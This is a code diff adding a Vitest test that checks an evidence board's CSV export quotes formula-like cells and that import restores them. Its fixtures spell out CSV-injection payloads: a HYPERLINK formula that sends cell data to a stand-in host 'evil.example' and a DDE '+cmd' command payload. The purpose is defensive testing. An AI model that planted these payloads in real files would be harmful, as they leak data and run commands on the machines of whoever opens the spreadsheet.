@@ -5,9 +5,10 @@
  */
 import fs from "node:fs";
 import path from "node:path";
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import * as Y from "yjs";
-import { getPin, initBoard, listCards, listPins } from "@/lib/board/model";
+import { addCard, addPin, getPin, initBoard, listCards, listPins } from "@/lib/board/model";
 import { exportCsv, exportGeoJson } from "@/lib/export/evidence";
 import { ACLED_COLUMNS } from "./acled";
 import { readAcledCsv } from "./csv";
@@ -198,5 +199,36 @@ describe("export", () => {
     expect(listPins(fromGeoJson).map((p) => [p.title, p.lat, p.lng]).sort()).toEqual(
       listPins(source).map((p) => [p.title, p.lat, p.lng]).sort(),
     );
+  });
+
+  it("neutralises cells a spreadsheet would run as formulas, and imports them back unchanged", async () => {
+    const source = board();
+    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
+    const mopti = addPin(source, { title: "@Mopti", lng: -4.18, lat: 14.48 }, "ana");
+    const gao = addPin(source, { title: "'=Already quoted", lng: 0.05, lat: 16.27 }, "ana");
+    const when = { start: "2019-02-24", precision: "day" } as const;
+    addCard(source, { title: hyperlink, body: "+cmd|' /C calc'!A0", when, source: { title: "-2+3", url: "" }, tags: ["-1", "ok"], pinIds: [mopti] }, "ana");
+    addCard(source, { title: "''=Twice quoted", body: "\tTabbed", when, source: { title: "\rReturned", url: "" }, pinIds: [gao] }, "ana");
+    const csv = exportCsv(source);
+
+    // No cell, read as a spreadsheet reads it, starts a formula; numbers stay numbers.
+    const cells = Papa.parse<string[]>(csv, { header: false }).data.flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open the report"")"`);
+    expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
+    expect(csv).toContain(`"'\tTabbed"`);
+    expect(csv).toContain(`"'''=Twice quoted"`);
+    expect(csv).toContain(",14.48,-4.18,");
+
+    // The import takes exactly the added quote off again.
+    const strip = (doc: Y.Doc) => listCards(doc).map(({ title, body, source: s, tags }) => ({ title, body, source: s, tags }));
+    const back = board();
+    applyImport(back, await readAcledCsv(csv), "all", "Ben");
+    expect(strip(back)).toEqual([
+      { title: hyperlink, body: "+cmd|' /C calc'!A0", source: { title: "-2+3", url: "" }, tags: ["-1", "ok"] },
+      // The import trims cells, as it always has; the quotes are what it restores.
+      { title: "''=Twice quoted", body: "Tabbed", source: { title: "Returned", url: "" }, tags: [] },
+    ]);
+    expect(listPins(back).map((pin) => pin.title)).toEqual(["@Mopti", "'=Already quoted"]);
   });
 });
